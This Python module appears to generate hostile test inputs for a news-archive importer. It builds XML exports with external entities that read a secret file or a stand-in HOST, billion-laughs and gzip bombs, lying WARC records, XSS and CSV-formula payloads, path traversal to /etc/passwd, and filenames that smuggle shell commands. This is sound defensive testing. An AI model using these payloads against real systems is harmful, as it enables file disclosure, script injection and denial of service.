"""Files that are hostile as files: containers that lie, bombs, entities, tricks in names."""

import gzip
import json
import zlib
from collections.abc import Iterator

from bench.trust.texts import words

EXPORT = (
    '<rss xmlns:wp="http://wordpress.org/export/1.2/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>%s</channel></rss>'
)
_ITEM = (
    "<item><title>%s</title><wp:post_id>1</wp:post_id>"
    "<content:encoded><![CDATA[<p>%s</p>]]></content:encoded></item>"
)
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def files(secret: str) -> Iterator[tuple[str, str, bytes]]:
    """What each attack is, a name for its file, and its bytes.

    `secret` is the path of a file whose words are never to be seen again.
    """
    for made in (_exports(secret), _web_archives(), _records(), _tables(), _texts(), _names()):
        yield from made


def _exports(secret: str) -> Iterator[tuple[str, str, bytes]]:
    item = _ITEM % ("&x;", words("xxe"))
    types = {
        "an external entity": f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]>',
        "an external entity of another host": '<!DOCTYPE r [<!ENTITY x SYSTEM "http://HOST/x">]>',
        "an external document type": '<!DOCTYPE r SYSTEM "http://HOST/x.dtd">',
        "a parameter entity": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "file://{secret}"> %p;]>',
        "an entity of a billion laughs": f'<!DOCTYPE r [<!ENTITY l0 "x">{_LAUGHS}<!ENTITY x "&l9;">]>',
        "an entity as long as a book": f'<!DOCTYPE r [<!ENTITY x "{"x" * 10**6}">]>',
        "an entity that is itself": '<!DOCTYPE r [<!ENTITY x "&x;">]>',
        "an attribute by a document type": '<!DOCTYPE r [<!ATTLIST item onload CDATA "alert(1)">]>',
    }
    for name, declared in types.items():
        yield name, "export.xml", f'<?xml version="1.0"?>{declared}{EXPORT % item}'.encode()
    for name, body in {
        "an entity that nobody declared": _ITEM % ("&x;", words("undeclared")),
        "an inclusion": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="file://{secret}" parse="text"/>' + _ITEM % ("خبر", words("include")),
        "a style sheet": '<?xml-stylesheet href="http://HOST/x.xsl"?>'
        + _ITEM % ("خبر", words("style")),
        "a script of XHTML": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'
        + _ITEM % ("خبر", words("xhtml")),
        "an item that is not closed": "<item><title>خبر",
        "elements nested ten thousand deep": "<a>" * 10_000,
        "attributes by the ten thousand": "<a "
        + " ".join(f'a{n}="1"' for n in range(20_000))
        + "/>",
        "a null in the XML": _ITEM % ("خبر\0", words("null")),
        "a surrogate in the XML": _ITEM % ("&#xd800;&#xdfff;", words("surrogate")),
    }.items():
        yield name, "export.xml", (EXPORT % body).encode()
    shell = EXPORT % (_ITEM % ("خبر", words("encoding")))
    for encoding in ("utf-7", "zlib_codec", "rot13", "unicode_escape", "utf-16", "cp65001", "idna"):
        head = f'<?xml version="1.0" encoding="{encoding}"?>'
        yield f"the encoding {encoding}", "export.xml", (head + shell).encode()


def _web_archives() -> Iterator[tuple[str, str, bytes]]:
    page = (
        f"<html><body><article><h1>خبر</h1><p>{words('warc')}</p></article></body></html>".encode()
    )
    http = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
    uri = b"http://example.org/1"

    def record(
        body: bytes, length: object = None, address: bytes = uri, more: bytes = b""
    ) -> bytes:
        size = str(len(body) if length is None else length).encode()
        return (
            b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: " + address + b"\r\n"
            b"WARC-Date: 2020-01-01T00:00:00Z\r\nWARC-Record-ID: <urn:uuid:1>\r\n"
            + more
            + b"Content-Type: application/http;msgtype=response\r\nContent-Length: "
            + size
            + b"\r\n\r\n"
            + body
            + b"\r\n\r\n"
        )

    whole = http + b"\r\n" + page
    bomb = gzip.compress(b"<p>x</p>" * 10**7, 9)
    lies = {
        "a length below nothing": record(whole, -1),
        "a length of the whole world": record(whole, 10**18),
        "a length that is no number": record(whole, "0x10"),
        "a length shorter than the record": record(whole, 20),
        "no length": b"WARC/1.0\r\nWARC-Type: response\r\n\r\n" + whole,
        "a version of the future": b"WARC/9.9\r\n\r\n",
        "headers without an end": b"WARC/1.0\r\n" + b"X: y\r\n" * 50_000,
        "a header as long as a book": b"WARC/1.0\r\nX: " + b"y" * 10**6 + b"\r\n\r\n",
        "nulls in the headers": record(whole, more=b"X\0Y: \0\r\n"),
        "an address of a script": record(whole, address=b"javascript:alert(1)"),
        "an address of a file": record(whole, address=b"file:///etc/passwd"),
        "an address with markup": record(whole, address=b'http://x/"><script>alert(1)</script>'),
        "an address above": record(whole, address=b"http://example.org/../../../../escaped"),
        "a date that is none": record(whole, more=b"WARC-Date: <script>\r\n"),
        "a record that refers to itself": record(
            http + b"\r\n", more=b"WARC-Type: revisit\r\nWARC-Refers-To: <urn:uuid:1>\r\n"
        ),
        "an answer that leads elsewhere": record(
            b"HTTP/1.1 302 Found\r\nLocation: http://HOST/\r\n\r\n" + page
        ),
        "a cookie": record(http + b"Set-Cookie: a=b\r\n\r\n" + page),
        "a policy of its own": record(http + b"Content-Security-Policy: *\r\n\r\n" + page),
        "chunks that lie": record(
            http + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF\r\n" + page
        ),
        "chunks below nothing": record(http + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n" + page),
        "a bomb in an answer": record(http + b"Content-Encoding: gzip\r\n\r\n" + bomb),
        "packed a hundred times": record(
            http + b"Content-Encoding: " + b"gzip, " * 100 + b"gzip\r\n\r\n" + bomb[:5000]
        ),
        "a packing that is none": record(http + b"Content-Encoding: zlib;alert\r\n\r\n" + page),
        "a charset that is none": record(
            whole.replace(b"charset=utf-8", b"charset=unicode_escape")
        ),
        "an answer without an end of its head": record(http),
        "an answer that is no answer": record(b"\xff" * 100),
        "a record cut in the middle": record(whole)[:150],
        "the same record a thousand times": record(whole) * 1000,
    }
    for name, data in lies.items():
        yield name, "site.warc", data
    yield "a packed record cut in the middle", "site.warc.gz", gzip.compress(record(whole))[:-20]
    yield (
        "a packed record with another checksum",
        "site.warc.gz",
        gzip.compress(record(whole))[:-8] + b"\0" * 8,
    )


def _records() -> Iterator[tuple[str, str, bytes]]:
    text = json.dumps(words("record"), ensure_ascii=False)
    lines = {
        "an object nested a hundred thousand deep": '{"text":'
        + '{"a":' * 10**5
        + "1"
        + "}" * 10**5
        + "}",
        "a list nested a hundred thousand deep": '{"text":' + "[" * 10**5 + "]" * 10**5 + "}",
        "a number of a hundred thousand digits": '{"id":' + "9" * 10**5 + "}",
        "a number beyond all": f'{{"id": 1e999, "text": {text}}}',
        "numbers that are none": f'{{"id": NaN, "date": -Infinity, "text": {text}}}',
        "a title of ten million letters": f'{{"title": "{"x" * 10**7}", "text": {text}}}',
        "a text of ten million letters": '{"text": "' + "خ" * 10**7 + '"}',
        "a million tags": f'{{"text": {text}, "tags": [{",".join(["1"] * 10**6)}]}}',
        "a lone surrogate": f'{{"title": "\\ud800\\udfff خبر \\udc00", "text": {text}, "tags": ["\\ud800"]}}',
        "lone surrogates alone": '{"text": "\\ud800\\ud800"}',
        "a null in everything": f'{{"id": "a\\u0000b", "title": "\\u0000", "source": "\\u0000", "text": {text}}}',
        "keys of an object's own": f'{{"__proto__": {{"text": "x"}}, "constructor": 1, "text": {text}}}',
        "a key written a thousand times": "{" + '"text": "x", ' * 1000 + f'"text": {text}}}',
        "values of other types": f'{{"title": {{}}, "tags": {{"a": 1}}, "authors": 7, "date": [], "text": {text}}}',
        "markdown that it never wrote": '{"id": "waaaaaaaaaa", "markdown": "Title: x\\nSave_as: ../../escaped\\n\\nx"}',
        "markdown with another's id": '{"id": "waaaaaaaaaa", "markdown": "Title: خبر\\nDate: 2020-01-01\\nId: ../../x\\n\\nx"}',
        "a capture above the folder": f'{{"id": "waaaaaaaaab", "capture_sha256": "{"0" * 64}", "capture": "../../../../etc/passwd", "text": {text}}}',
        "a withdrawal with markup": '{"id": "waaaaaaaaac", "title": "<script>alert(1)</script>", "withdrawn": "2020-01-01, <img src=x onerror=alert(1)>"}',
        "a line that is no object": '"<script>alert(1)</script>"',
        "a line that is not closed": '{"text": "',
        "an address of ten million letters": f'{{"url": "https://example.org/{"x" * 10**7}", "text": {text}}}',
    }
    for name, line in lines.items():
        yield name, "records.jsonl", line.encode() + b"\n"
    yield "bytes that are no text", "records.jsonl", b'{"text": "\xff\xfe\xed\xa0\x80"}\n'
    yield "a bomb of records", "records.jsonl.gz", gzip.compress(b'{"text": "' + b"\0" * 10**8, 9)
    yield "packed in packed", "records.jsonl.gz", gzip.compress(gzip.compress(b'{"text": "x"}\n'))


def _tables() -> Iterator[tuple[str, str, bytes]]:
    line = words("table")
    tables = {
        "a quote without an end": f'title,text\na,"{line}\n',
        "a hundred thousand columns": ",".join(["title", "text", *["x"] * 10**5])
        + f"\nخبر,{line}\n",
        "a formula in each cell": f"title,text,author\n=1+1,{line},@x\n",
        "a separator of its own": f"sep=;\ntitle;text\n<script>alert(1)</script>;{line}\n",
        "a row of nulls": "title,text\n\0,\0\n",
        "columns of one name": f"text,text,title,title\na,{line},b,c\n",
    }
    for name, text in tables.items():
        yield name, "table.csv", text.encode()


def _texts() -> Iterator[tuple[str, str, bytes]]:
    line = words("text")
    part = "Content-Type: text/html\nContent-Location: {}\n\n<html><body><script>alert(1)</script>"
    texts: dict[str, tuple[str, bytes]] = {
        "a page of tags nested deep": ("page.html", b"<html><body>" + b"<div>" * 50_000),
        "a page of tables nested deep": ("page.html", b"<html><body>" + b"<table><tr><td>" * 5_000),
        "a page of attributes": ("page.html", b"<html><body " + b"a=1 " * 200_000 + b">"),
        "a page in UTF-7": (
            "page.html",
            b'<html><head><meta charset="utf-7">+ADw-script+AD4-alert(1)',
        ),
        "a page in two character sets": (
            "page.html",
            f'<html><meta charset="gb18030"><p>{line}</p><script>alert(1)</script>'.encode(
                "utf-16"
            ),
        ),
        "JSON-LD that closes its script": (
            "page.html",
            (
                '<html><head><script type="application/ld+json">{"@type":"NewsArticle","headline":'
                '"</script><script>alert(1)</script>","author":{"__proto__":{}},"datePublished":"x"}'
                f"</script></head><body><article><h1>خبر</h1><p>{line}</p></article>"
            ).encode(),
        ),
        "JSON-LD nested deep": (
            "page.html",
            ('<html><script type="application/ld+json">' + '{"@graph":[' * 20_000).encode(),
        ),
        "metadata with markup": (
            "page.html",
            (
                '<html><head><title>x</title><meta property="og:title" content="&lt;/title&gt;&lt;script'
                '&gt;alert(1)&lt;/script&gt;"><meta property="og:url" content="javascript:alert(1)">'
                '<link rel="canonical" href="javascript:alert(1)"><meta name="author" content="a&#10;'
                f'Save_as: ../../escaped"></head><body><article><h1>خبر</h1><p>{line}</p></article>'
            ).encode(),
        ),
        "an archive of a page that refers outside": (
            "page.mhtml",
            (
                "From: <x>\nContent-Type: multipart/related; boundary=b\nSnapshot-Content-Location: "
                f"javascript:alert(1)\n\n--b\n{part.format('file:///etc/passwd')}<p>{line}</p>\n--b--"
            ).encode(),
        ),
        "a text of line ends": ("text.txt", b"\r" * 200_000),
        "a text of one letter": ("text.txt", "خ".encode() * 10**6),
        "a text of marks": ("text.txt", (line + "\u064b" * 10**5).encode()),
        "a text of overrides": ("text.txt", ("\u202e" + line + "\u2066" * 1000).encode()),
        "a text of nulls": ("text.txt", b"\0" * 10**5),
        "a text of surrogates": ("text.txt", line.encode() + b"\xed\xa0\x80\xed\xbf\xbf"),
        "a text of a terminal's controls": ("text.txt", f"\x1b]0;x\x07\x1b[2J{line}".encode()),
        "a text that begins as front matter": (
            "text.txt",
            f"Title: x\nSave_as: ../../escaped.html\nTemplate: /etc/passwd\n\n{line}".encode(),
        ),
        "an executable": ("text.txt", b"\x7fELF" + bytes(range(256)) * 50),
        "zlib for a text": ("text.txt", zlib.compress(line.encode())),
        "an SVG": ("page.html", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        "a page of nothing": ("page.html", b"<html></html>"),
    }
    for name, (file, data) in texts.items():
        yield name, file, data


def _names() -> Iterator[tuple[str, str, bytes]]:
    names = (
        "..\\..\\escaped.txt", "%2e%2e%2fescaped.txt", "C:escaped.txt", "CON.txt", "nul", "-rf.txt",
        "$(touch escaped).txt", "\u202egpj.txt", "a\nb.txt", "<script>alert(1)<script>.txt",
        '"onclick="alert(1).txt', "x" * 200 + ".txt", ".hidden.txt", "__proto__.txt",
        "{{ 7*7 }}.txt", "ledger.jsonl.txt", "\u200b.txt", "\x1b]0;x\x07\x1b[2J.txt", "\u202elmth.txt",
    )  # fmt: skip
    for number, name in enumerate(names):
        story = f"خبر في ملف اسمه غريب {number}\n\n{words(name)}\n"
        yield f"a file named {ascii(name)[1:41]}", name, story.encode()
